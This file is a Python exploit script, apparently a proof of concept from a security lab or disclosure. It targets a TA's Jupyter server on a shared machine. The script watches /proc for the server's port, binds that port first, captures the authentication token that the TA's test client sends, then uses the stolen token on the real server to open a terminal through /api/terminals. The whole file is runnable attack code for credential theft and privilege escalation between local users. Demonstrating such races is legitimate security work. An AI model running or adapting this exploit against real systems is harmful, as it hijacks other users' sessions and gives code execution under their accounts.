"""Variant of lab_token_attack.py that does not know the token: run as uid 65000 while the TA runs
tests/test_private_kernels.py -k make_labs. Bind the port on the TA's jupyter_server command line first, read the token
the test's client sends to it (it checks no one's identity before sending), find where the real server went (it moves
to the next port: port_retries is left at 50), and use the stolen token there."""
import json, os, re, socket, time, urllib.request
TA = 65534
log = open(os.environ.get("LOG", "/dev/stdout"), "a", buffering=1)
end = time.time() + float(os.environ.get("SECONDS_LEFT", "300"))

def ta_procs():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if os.stat(f"/proc/{pid}").st_uid == TA:
                    yield pid, open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                pass

def ta_listeners():
    return {int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/tcp").read().splitlines()[1:]
            if l.split()[3] == "0A" and int(l.split()[7]) == TA}

while time.time() < end:
    hit = [(pid, int(m.group(1))) for pid, cmd in ta_procs() if (m := re.search(r"jupyter_server.*--ServerApp\.port=(\d+)", cmd))]
    if not hit:
        time.sleep(0.002); continue
    pid, port = hit[0]
    s = socket.socket(); s.bind(("127.0.0.1", port)); s.listen(8)
    log.write(f"{time.strftime('%T')} TA's jupyter_server pid {pid} wants {port}: uid {os.getuid()} listens there first\n")
    conn, _ = s.accept()
    req = conn.recv(4096).decode(errors="replace")
    token = re.search(r"[Aa]uthorization: token (\S+)", req).group(1)
    log.write(f"{time.strftime('%T')} the TA's test sent: {req.splitlines()[0]!r}, token {token!r}\n")
    conn.sendall(b"HTTP/1.1 503 x\r\nContent-Length: 0\r\n\r\n"); conn.close()
    while time.time() < end:
        for p in sorted(ta_listeners() - {port}):
            try:
                r = urllib.request.urlopen(urllib.request.Request(f"http://127.0.0.1:{p}/api/terminals", data=b"{}",
                                           method="POST", headers={"Authorization": f"token {token}"}), timeout=2)
                log.write(f"{time.strftime('%T')} the real server is on {p}; with the stolen token: POST /api/terminals -> "
                          f"{r.status} {json.load(r)}\n")
                raise SystemExit
            except (OSError, ValueError) as e:
                pass
        time.sleep(0.05)
    break
